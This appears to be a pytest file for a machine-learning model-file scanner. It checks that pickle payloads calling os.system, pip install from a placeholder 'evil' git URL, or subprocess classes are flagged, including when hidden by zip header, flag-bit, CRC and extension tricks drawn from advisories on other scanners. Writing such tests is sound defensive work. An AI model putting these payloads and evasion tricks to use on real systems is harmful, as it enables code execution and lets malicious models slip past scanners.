"""The advisories on other scanners, each as what it let through and as what must not be taken for it."""

from __future__ import annotations

import zipfile
from pathlib import Path

import numpy as np
import pytest

from assay.core.report import Status
from fixtures.archives import Member, handmade_zip, real_zip
from fixtures.opcodes import PROTO_2, PROTO_4, STOP, call, dict_of, list_of, named, system, text
from fixtures.scanning import rules_of, scan, scan_bytes
from fixtures.torch_zip import write_checkpoint

EVIL = PROTO_2 + system("id") + STOP
FINE = PROTO_2 + call("collections.OrderedDict") + STOP
DANGEROUS, INCONSISTENT, LYING = "pickle/dangerous-global", "archive/inconsistent", "artifact/lying-extension"


def _checkpoint(folder: Path) -> bytes:
    write_checkpoint(folder / "plain.pt", {"w": np.ones((2, 2), "f4")})
    return (folder / "plain.pt").read_bytes()


def _flag(archive: bytes, bits: int, *, local: bool = True, central: bool = True) -> bytes:
    """With flag bits set in the first header of each kind."""
    out = bytearray(archive)
    if local:
        out[6] |= bits
    if central:
        out[out.find(b"PK\1\2") + 8] |= bits
    return bytes(out)


@pytest.mark.parametrize("name", ["pip.main", "pip._internal.main", "pip._internal.cli.main.main"])
def test_cve_2025_1716_pip_installs_a_package(name: str, tmp_path: Path) -> None:
    arguments = list_of(text("install"), text("git+https://x.invalid/evil"))
    report = scan_bytes(tmp_path, "model.pkl", PROTO_2 + call(name, arguments) + STOP)
    assert [(f.rule, f.severity.value) for f in report.findings] == [(DANGEROUS, "critical")]
    twin = PROTO_2 + dict_of(installer=text(name), arguments=arguments) + STOP
    assert scan_bytes(tmp_path, "model.pkl", twin).status is Status.PASS


@pytest.mark.parametrize("member", ["archive/config.p", "archive/notes", "archive/data.png", "a/b/x.0"])
def test_cve_2025_1889_member_without_the_extension_of_a_pickle(member: str, tmp_path: Path) -> None:
    for content, status in ((EVIL, Status.FAIL), (FINE, Status.PASS)):
        file = tmp_path / "model.pt"
        file.write_bytes(_checkpoint(tmp_path))
        with zipfile.ZipFile(file, "a") as archive:
            archive.writestr(member, content)
        report = scan(file)
        told = LYING in rules_of(report) and member.endswith(".png")
        assert report.status is (Status.FAIL if told else status)
        assert (DANGEROUS in rules_of(report)) is (content is EVIL)


def test_cve_2025_1944_names_that_directory_and_header_give_differently(tmp_path: Path) -> None:
    lying = handmade_zip([Member(b"archive/data.pkl", EVIL, local_name=b"archive/data.txt")])
    assert rules_of(scan_bytes(tmp_path, "model.pt", lying)) == {INCONSISTENT, DANGEROUS}
    honest = handmade_zip([Member(b"archive/data.pkl", FINE)])
    assert scan_bytes(tmp_path, "model.pt", honest).status is Status.PASS


@pytest.mark.parametrize("bits", [0x01, 0x20, 0x40])
@pytest.mark.parametrize(("local", "central"), [(True, False), (False, True), (True, True)])
def test_cve_2025_1945_flag_bits_that_stop_a_scanner(
    bits: int, local: bool, central: bool, tmp_path: Path
) -> None:
    archive = real_zip(("archive/data.pkl", EVIL), ("archive/version", b"3\n"))
    flagged = _flag(archive, bits, local=local, central=central)
    assert rules_of(scan_bytes(tmp_path, "model.pt", flagged)) == {INCONSISTENT, DANGEROUS}
    assert scan_bytes(tmp_path, "model.pt", real_zip(("archive/data.pkl", FINE))).status is Status.PASS


@pytest.mark.parametrize("name", ["model.bin", "model.pt", "model.pth", "model.ckpt"])
def test_cve_2025_10155_pickle_by_the_name_of_a_pytorch_file(name: str, tmp_path: Path) -> None:
    assert DANGEROUS in rules_of(scan_bytes(tmp_path, name, EVIL))
    assert scan_bytes(tmp_path, name, FINE).status is Status.PASS


def test_cve_2025_10156_checksum_that_stops_a_scanner(tmp_path: Path) -> None:
    for crc, local_crc in ((0, None), (None, 0), (0, 0)):
        broken = handmade_zip([Member(b"archive/data.pkl", EVIL, crc=crc, local_crc=local_crc)])
        assert rules_of(scan_bytes(tmp_path, "model.pt", broken)) == {INCONSISTENT, DANGEROUS}
    last = handmade_zip([Member(b"archive/version", b"3\n", crc=0), Member(b"archive/data.pkl", EVIL)])
    assert rules_of(scan_bytes(tmp_path, "model.pt", last)) == {INCONSISTENT, DANGEROUS}
    whole = handmade_zip([Member(b"archive/version", b"3\n"), Member(b"archive/data.pkl", FINE)])
    assert scan_bytes(tmp_path, "model.pt", whole).status is Status.PASS


@pytest.mark.parametrize(
    "name",
    [
        "asyncio.unix_events._UnixSubprocessTransport",
        "asyncio.subprocess.Process",
        "multiprocessing.popen_fork.Popen",
        "logging.config.os.system",
    ],
)
def test_cve_2025_10157_part_of_a_dangerous_module(name: str, tmp_path: Path) -> None:
    report = scan_bytes(tmp_path, "model.pkl", PROTO_2 + call(name, text("id")) + STOP)
    assert [(f.rule, f.severity.value) for f in report.findings] == [(DANGEROUS, "critical")]
    twin = PROTO_2 + named("collections.OrderedDict") + text(name) + b"\x86."
    assert scan_bytes(tmp_path, "model.pkl", twin).status is Status.PASS


@pytest.mark.parametrize("memo", [b"", b"\x94"], ids=["plain", "memoized"])
def test_cve_2025_71325_operand_that_is_the_first_opcode(memo: bytes, tmp_path: Path) -> None:
    def first(module: bytes, name: bytes) -> bytes:
        return (
            b"\x8c"
            + bytes([len(module)])
            + module
            + memo
            + b"\x8c"
            + bytes([len(name)])
            + name
            + memo
            + b"\x93"
        )

    evil = first(b"os", b"system") + text("id") + b"\x85R."
    assert rules_of(scan_bytes(tmp_path, "model.pkl", evil)) == {DANGEROUS}
    fine = first(b"collections", b"OrderedDict") + b")R."
    assert scan_bytes(tmp_path, "model.pkl", fine).status is Status.PASS


def test_issue_154848_frame_that_ends_within_an_opcode(tmp_path: Path) -> None:
    short = PROTO_4 + b"\x95\4\0\0\0\0\0\0\0" + text("hello") + b"0" + system("id") + STOP
    assert {"pickle/machines-disagree", DANGEROUS} <= rules_of(scan_bytes(tmp_path, "model.pkl", short))
    whole = PROTO_4 + b"\x95\x0b\0\0\0\0\0\0\0" + text("hello") + STOP
    assert scan_bytes(tmp_path, "model.pkl", whole).status is Status.PASS
